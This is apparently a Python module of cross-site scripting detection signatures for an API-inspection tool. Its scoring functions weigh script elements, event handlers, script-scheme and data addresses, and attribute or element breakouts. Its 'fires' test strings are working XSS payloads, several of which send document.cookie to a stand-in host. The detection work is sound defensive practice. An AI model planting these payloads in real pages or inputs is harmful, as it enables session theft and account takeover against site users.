"""Script that rides on markup: elements, event handlers, addresses with a script scheme, ways out of an attribute or element."""

from __future__ import annotations

import base64
import binascii
import re
from urllib.parse import unquote

from apitrail.inspect.attacks.families.events import EVENTS
from apitrail.inspect.attacks.families.html_tokens import Tag, around, opened_before, tag
from apitrail.inspect.attacks.families.script_code import mentioned, program, prose, reaches_out, runs
from apitrail.inspect.attacks.signature import Signature
from apitrail.inspect.attacks.values import Value

_J = r"(?:[\x00-\x20\\]|&(?:tab|newline);|&#x?0*[0-9a-d]{1,2};?)*"
_QUIET_TYPES = re.compile(r"json|template|x-handlebars|importmap", re.IGNORECASE)
_NAMED_HANDLER = re.compile(r"on([a-z]{3,40})", re.IGNORECASE)
_NOTHING = re.compile(
    r"\s*(?:void\s*\(?\s*0\s*\)?|;|return\s+false|history\.(?:back|go)\([-\d]*\)|false|"
    r"undefined)?\s*;?\s*",
    re.IGNORECASE,
)
_BEFORE_ADDRESS = re.compile(r"(?:=\s{0,4}[\"'`\\]{0,3}|url\s{0,3}\(\s{0,3}[\"']?|\]\(|url\s*=)\s*$", re.IGNORECASE)
_ACTIVE_DATA = re.compile(r"<\s*/?[a-z]|alert\s*\(|\bon[a-z]{3,}\s*=|javascript:", re.IGNORECASE)
_ACTIVE_IMAGE = re.compile(r"<[^>]{0,20}script|[\s/]on[a-z]{3,30}\s*=|javascript:|<foreignobject", re.IGNORECASE)


def _script_element(value: Value, start: int, end: int) -> float:
    """A script element with an address or with code; unfinished ones too, since a page around may finish them."""
    text = value.text
    if mentioned(text, start, end):
        return 0.0
    if "/" in text[start : start + 3]:
        return 0.0 if "<script" in text[:start].lower() or prose(text, start, end) else 0.5
    found = tag(text.replace("\x00", ""), start) if "\x00" in text else tag(text, start)
    attributes = found.attributes if found else {}
    if attributes.get("src") or attributes.get("href") or attributes.get("xlink:href"):
        return 0.95
    return 0.0 if _QUIET_TYPES.search(attributes.get("type", "")) else _script_inside(text, start, end)


def _script_inside(text: str, start: int, end: int) -> float:
    close = text.find(">", end - 1, end + 300)
    stop = text[: close + 2000].find("</", close) if close >= 0 else -1
    inside = text[close + 1 : stop if stop >= 0 else close + 600] if close >= 0 else text[end : end + 200]
    if prose(text, start, end):
        return 0.9 if stop >= 0 and runs(inside) >= 0.8 else 0.3
    return 0.95 if runs(inside) else 0.8


def _handler(value: Value, start: int, end: int) -> float:
    """An event handler: of a tag here, of one that a quote breaks out into, or alone and calling something."""
    text = value.text
    name = _NAMED_HANDLER.search(text, start, end)
    if not name:
        return 0.0
    known = name[1].lower() in EVENTS
    inside = around(text, name.start())
    if (not inside and not known and not reaches_out(text[end : end + 80])) or mentioned(text, start, end):
        return 0.0
    if inside:
        return _handler_of_tag(inside, name[0], known=known)
    return _handler_alone(text, name.start(), end, known=known)


def _handler_alone(text: str, at: int, end: int, *, known: bool) -> float:
    """A handler whose tag stands in the page around, or is written so that it is not read as one."""
    code = _code_behind(text, end)
    opened = opened_before(text, at)
    if runs(code) < 0.8 or (not opened and "\n" in text and program(text, at)):
        return 0.0
    if opened:
        return 0.9
    if prose(text, at, end) and not reaches_out(code):
        return 0.2
    broken_out = any(quote in text[max(0, at - 200) : at] for quote in "\"'`>") or not text[:at].strip()
    return 0.9 if broken_out or (known and reaches_out(code)) else 0.4


def _handler_of_tag(found: Tag, written: str, *, known: bool) -> float:
    code = found.attributes.get(written.lower(), "")
    if not code.strip("{} "):
        return 0.0
    if code[:1] == "{" and written[2:3].isupper() and not re.search(r"alert|eval|document|confirm\(|prompt\(", code):
        return 0.2  # a component of a program, not an element of a page
    sure = runs(code)
    if sure >= 0.8:
        return 0.95
    return 0.75 if known and (sure or len(found.attributes) <= 3) and "xmlns" not in found.attributes else sure


def _code_behind(text: str, end: int) -> str:
    """The value of an attribute that begins here: to its quote, else some words."""
    piece = text[end : end + 600].lstrip()
    quote = piece[:1]
    if quote in ("'", '"', "`"):
        return piece[1:].partition(quote)[0]
    return piece[:200].partition(">")[0]


def _script_url(value: Value, start: int, end: int) -> float:
    """An address whose scheme runs script, as a whole value or where an address stands."""
    text = value.text
    code = text[end : end + 600]
    if text[start - 1 : start] == '"':
        code = code.partition('"')[0]
    if _NOTHING.fullmatch(re.split("[\"']", code, maxsplit=1)[0]) and len(code) < 60 and "<" not in code:
        return 0.0
    if mentioned(text, start, end):
        return 0.0
    sure = runs(code)
    if _BEFORE_ADDRESS.search(text[max(0, start - 12) : start]):
        return 0.95 if sure >= 0.8 else 0.8
    in_prose = prose(text, start, end)
    if not text[:start].strip("\x00 \t\r\n\"'<>(`\\"):
        return _whole_address(code, sure, in_prose=in_prose)
    if sure >= 0.95 and not program(text, start):
        return 0.5 if in_prose else 0.8
    return 0.75 if sure >= 0.8 and not code[:1].isspace() and not in_prose and "<" not in code[:1] else 0.0


def _whole_address(code: str, sure: float, *, in_prose: bool) -> float:
    """A value that begins with a scheme of script."""
    if sure >= 0.8:
        return 0.9
    return 0.75 if code.strip() and not code[0].isspace() and not in_prose else 0.0


def _data_url(value: Value, start: int, end: int) -> float:
    """An address that carries its own document, when that document does something."""
    text = value.text
    head, content = text[start:end].lower(), text[end : end + 1500]
    if mentioned(text, start, end):
        return 0.0
    if "base64" in head:
        try:
            content = base64.b64decode(re.split(r"[^A-Za-z0-9+/]", content, maxsplit=1)[0][:1200] + "==").decode("latin-1")
        except (binascii.Error, ValueError):
            return 0.0
    elif "%" in content:
        content = unquote(content)
    if "image/" in head:
        return 0.85 if _ACTIVE_IMAGE.search(content[:1200]) else 0.0
    if "html" in head or "xml" in head or "script" in head:
        return 0.9 if _ACTIVE_DATA.search(content[:1200]) or runs(content[:200]) >= 0.8 else 0.4
    return 0.8 if re.match(r"\s*(?:<\s*[a-z]|\(?alert|eval)", content, re.IGNORECASE) and not prose(text, start, end) else 0.0


def _out_of_attribute(value: Value, start: int, end: int) -> float:
    """A quote and a closing sign of a tag that the value never opened, then an element."""
    text = value.text
    if "<" in text[max(0, start - 2000) : start] or prose(text, start, end):
        return 0.0
    return 0.8 if len(text) < 2000 else 0.4


def _out_of_element(value: Value, start: int, end: int) -> float:
    """The end of an element or comment that holds text only and that the value never opened, then an element."""
    text = value.text
    name = re.match(r"</\s*([a-z]+)", text[start:end], re.IGNORECASE)
    opening = f"<{name[1].lower()}" if name else "<!--"
    if opening in text[:start].lower() or prose(text, start, end):
        return 0.0
    return 0.8


def _spaced(word: str, between: str) -> str:
    return between.join(word)


SIGNATURES: tuple[Signature, ...] = (
    Signature(
        "xss-script-element",
        "xss",
        "script",
        r"<[\x00-\x20+/\\]{0,6}(?:[\w-]{1,20}:)?" + _spaced("script", r"\x00?") + r"(?:[^a-z0-9_.@-]|$)",
        check=_script_element,
        fires=(
            "<script>fetch('//e.example/'+document.cookie)</script>",
            "<ScRiPt/x src=//e.example/a.js>",
            '"><script\n>top.name=1</script',
            "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
            "<svg><script href=data:,alert(1) />",
        ),
        silent=(
            "Put the `<script>` tag at the end of the body, as it is read when the page is.",
            "the scripting engine <scripts@lists.example>",
            '<script type="application/ld+json">{"@type": "Order", "n": 1}</script>',
            "The <script> element is not allowed here, as you can see in the docs.",
        ),
    ),
    Signature(
        "xss-event-handler",
        "xss",
        "handler",
        r"(?:^|[^a-z0-9_.$\n-])on[a-z]{3,40}[\s\x00-\x20\\]{0,10}=(?:[^=>]|$)",
        check=lambda value, start, end: _handler(value, start, end - 1),
        fires=(
            "<svg/onload=alert(1)>",
            "<img src=x onerror = 'location=name'>",
            '" autofocus onfocus=import("//e.example") x="',
            "<a\nonpointerenter\n=\nx=top.alert;x(2) //",
            "<x onwhatever=confirm`1`>",
            "<details open ontoggle=&#97;lert(1)>",
            "' onmouseover='$.get(\"//e.example/\"+document.cookie)",
        ),
        silent=(
            "online=true&only=1",
            "The prop onClick={handleClick} is what you pass to the button",
            '<action onSuccess="next" xmlns="urn:flow"/>',
            "conn.onmessage = handle(event)",
            "<Button onClick={() => setOpen(true)}>Open</Button>",
            "once = 5; onward = go(2)",
        ),
    ),
    Signature(
        "xss-script-url",
        "xss",
        "url",
        r"(?:"
        + _spaced("javascript", _J)
        + "|"
        + _spaced("vbscript", _J)
        + "|livescript|jscript"
        + r")"
        + _J
        + r"(?::|&colon;|&#x?0*(?:58|3a);?)",
        check=_script_url,
        fires=(
            "javascript:alert(1)",
            "java\tscript:fetch('//e.example')",
            "<a href='java&Tab;script&colon;top[name]()'>x</a>",
            "vbscript:MsgBox(1)",
            "[click](javascript:location=name)",
            "<form action=JaVaScRiPt:eval(name)>",
            "\x01javascript:name='x'",
        ),
        silent=(
            '<a href="javascript:void(0)">more</a>',
            "languages: javascript: 3, python: 4",
            "JavaScript: The Good Parts",
            '{"javascript": "eslint", "python": "ruff"}',
        ),
    ),
    Signature(
        "xss-data-url",
        "xss",
        "url",
        r"\bdata\s{0,3}:[\w\s/+;=.\"'-]{0,80},",
        check=_data_url,
        fires=(
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+",
            "data:image/svg+xml,%3Csvg onload=alert(1)%3E",
        ),
        silent=(
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA",
            "the data: rows, columns and cells",
            "data:image/svg+xml,%3Csvg viewBox='0 0 8 8'%3E%3Cpath d='M0 0'/%3E%3C/svg%3E",
        ),
    ),
    Signature(
        "xss-out-of-attribute",
        "xss",
        "breakout",
        r"[\"'`][^\w<>\"']{0,5}/?>[\s\x00-\x20]{0,5}<[/!a-z]",
        check=_out_of_attribute,
        fires=('x"><img src=1>', "'/> <b>bold</b>", '"><a href=//e.example>'),
        silent=('<a href="x"><img src="y"></a>', "<p class='x'><b>bold</b></p>"),
    ),
    Signature(
        "xss-out-of-element",
        "xss",
        "breakout",
        r"(?:</\s{0,3}(?:title|textarea|style|script|noscript|xmp|template|noembed|select|"
        r"iframe)[^>]{0,40}>|--!?>)[\s\x00-\x20'\"`>;)}]{0,10}<[/?!a-z]",
        check=_out_of_element,
        fires=("</title><img src=//e.example/>", "--><b>x</b>", "</textarea/ ><svg>"),
        silent=("<title>Report</title><p>text</p>", "<!-- begin --><p>text</p><!-- end -->"),
    ),
)
